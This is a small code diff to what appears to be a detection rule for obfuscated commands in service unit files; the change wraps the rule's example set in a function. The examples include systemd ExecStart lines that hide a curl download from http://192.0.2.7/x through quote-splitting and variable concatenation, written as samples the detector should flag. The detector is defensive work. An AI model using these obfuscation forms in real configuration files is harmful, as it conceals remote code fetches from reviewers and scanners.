@@ -27,7 +27,7 @@ export const obfuscatedCommand: ActivationRule = {
       if (!isPackagedPlace(behaviour.span.path, activation, inventory)) yield accuse(behaviour, inventory);
   },
 
-  examples: {
+  examples: () => ({
     fires: [
       timed(`ExecStart=/bin/sh -c "'c''u'rl http://192.0.2.7/x"`),
       timed("ExecStart=/bin/sh -c 'a=cu; b=rl; $$a$$b -s http://192.0.2.7/x'"),
@@ -37,5 +37,5 @@ export const obfuscatedCommand: ActivationRule = {
       timed("ExecStart=/bin/sh -c 'rm -f /srv/x'"),
       shipped("vendor", "ExecStart=/bin/sh -c \"'c''u'rl http://192.0.2.7/x\""),
     ],
-  },
+  }),
 };
